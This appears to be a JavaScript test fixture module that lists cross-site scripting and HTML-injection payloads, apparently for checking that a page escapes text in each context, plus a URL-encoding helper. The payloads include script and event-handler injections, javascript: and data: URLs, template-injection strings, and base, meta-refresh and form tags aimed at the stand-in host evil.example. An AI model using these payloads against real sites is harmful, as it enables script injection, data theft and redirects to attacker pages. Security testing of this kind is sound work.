/** What runs, or leaves the page, where a text is not taken for a text. */
export const MARKUP = {
  'a script': '<script>alert(1)</script>',
  'the end of a script': '</script><script>alert(1)</script>',
  'the end of a title': '</title><img src=x onerror=alert(1)>',
  'the end of a style': '</style><img src=x onerror=alert(1)>',
  'the end of a text field': '</textarea><svg onload=alert(1)>',
  'the end of a comment': '--><img src=x onerror=alert(1)>',
  'the end of CDATA': ']]><img src=x onerror=alert(1)>',
  'the end of an attribute': '" onmouseover="alert(1)" x="',
  'the end of an attribute, single': "' onfocus='alert(1)' autofocus x='",
  'an attribute without quotes': 'x onpointerenter=alert(1) ',
  'a frame': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'a base': '<base href="https://evil.example/">',
  'an address that runs': 'javascript:alert(1)',
  'one with blanks in it': ' java\tscript:alert(1)',
  data: 'data:text/html,<script>alert(1)</script>',
  'a template': '{{constructor.constructor("alert(1)")()}}${alert(1)}<%= 7*7 %>',
  'math in svg': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  'a noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'a meta': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'a form': '<form action="https://evil.example"><input name=x autofocus onfocus=alert(1)>',
  'wide brackets': '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  'half a surrogate': '\ud83c<img src=x onerror=alert(1)>',
  'a byte of nothing': '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  'turned around': '\u202e>tpircs/<)1(trela>tpircs<',
};

/** As it is sent in an address; half a surrogate can't be. */
export const inAddress = (text) =>
  encodeURIComponent(text.toWellFormed?.() ?? text.replace(/[\ud800-\udfff]/g, ''));
